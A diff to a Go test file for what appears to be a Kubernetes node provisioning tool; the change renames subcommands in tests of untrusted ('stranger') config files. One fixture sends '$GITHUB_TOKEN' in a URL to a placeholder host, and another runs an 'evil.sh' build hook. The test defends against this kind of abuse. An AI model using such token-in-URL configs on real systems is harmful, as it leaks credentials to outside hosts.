@@ -91,12 +91,12 @@ func TestFilesOfAStranger(t *testing.T) {
 		"a variable in a URL": {map[string]string{
 			"swdt.yaml": node("  credentials: {hostname: 'HOST', username: a}\n  kubernetes:\n    provisioners:\n" +
 				"    - {name: kubelet, sourceURL: 'http://HOST/x?t=$GITHUB_TOKEN', destination: 'C:\\k\\kubelet.exe'}\n"),
-		}, []string{"kubernetes --dry-run", "status", "config init --write swdt.yaml"}},
+		}, []string{"push --dry-run", "status", "config init --write swdt.yaml"}},
 		"a build": {map[string]string{
 			"swdt.yaml": node("  credentials: {hostname: 'HOST', username: a}\n  kubernetes:\n    provisioners:\n" +
 				"    - {name: kubelet, sourceURL: ./kubelet.exe, destination: 'C:\\k\\kubelet.exe', build: {command: ./evil.sh}}\n"),
 			"evil.sh": "#!/bin/sh\ntouch ran\n",
-		}, []string{"kubernetes --build", "kubernetes --watch", "status"}},
+		}, []string{"push --build", "push --watch", "status"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			s := newStranger(t)
